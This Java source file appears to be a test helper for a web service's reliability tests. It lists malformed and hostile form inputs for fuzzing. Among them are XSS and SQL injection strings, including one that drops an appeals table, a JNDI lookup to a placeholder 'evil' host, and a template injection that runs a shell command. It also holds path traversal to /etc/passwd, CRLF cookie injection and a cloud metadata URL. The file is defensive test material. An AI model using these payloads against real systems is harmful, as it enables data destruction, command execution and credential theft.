package org.onedoor.reliability;

import java.util.List;
import java.util.Random;

/**
 * Values people and machines send that no form expects: scripts, SQL, huge, broken, odd characters.
 * No lone surrogates here: HTTP carries bytes, and bytes never decode to one (the JSON cases send
 * them as escapes, where they can occur).
 */
final class HostileValues {

	static final List<String> TEXT = List.of("", " ", "\t\n", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"' OR '1'='1", "'; drop table appeals.appeal; --", "1; select pg_sleep(5)", "${jndi:ldap://evil/x}", "{{7*7}}",
			"[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "__${7*7}__::.x", "../../../../etc/passwd",
			"..\\..\\windows\\win.ini", "\u0000", "abc\u0000def", "\uFFFE\uFFFF", "\u202Egnp.exe",
			"😀😃😄", "ＡＢＣ１２３", "５２０１０２", "null", "undefined", "true", "[]", "{}", "NaN", "-1", "0", "1e309",
			"99999999999999999999999999", "-0.0", "0x7fffffff", "2026-13-45", "2026-02-30T25:61:61Z", "0000-00-00",
			"9999-12-31T23:59:59+99:00", "\r\nSet-Cookie: pwned=1", "%00", "%E4%B8", "%%%", "a".repeat(301),
			"中".repeat(5001), "x".repeat(100_000), "13800000000" + "0".repeat(50), "1380000000", "+86 138 0000 0001 x",
			"52010203100", "5201020310001", "520102031000' --", "javascript:alert(1)", "file:///etc/passwd",
			"http://169.254.169.254/latest/meta-data/", "@@@@", "a@b", "ROLE_ADMIN", "admin'--");

	/** Values that are never a valid answer where a number, date, code or key is expected. */
	static final List<String> NOT_A_VALUE = List.of("<script>", "' OR 1=1 --", "NaN", "1e309", "abc", "2026-13-45",
			"\u0000", "../x", "中".repeat(300), "x".repeat(5000), "%E4%B8", "-", "[]", "{}");

	private HostileValues() {
	}

	static String any(Random random) {
		return TEXT.get(random.nextInt(TEXT.size()));
	}

	static String notAValue(Random random) {
		return NOT_A_VALUE.get(random.nextInt(NOT_A_VALUE.size()));
	}

}
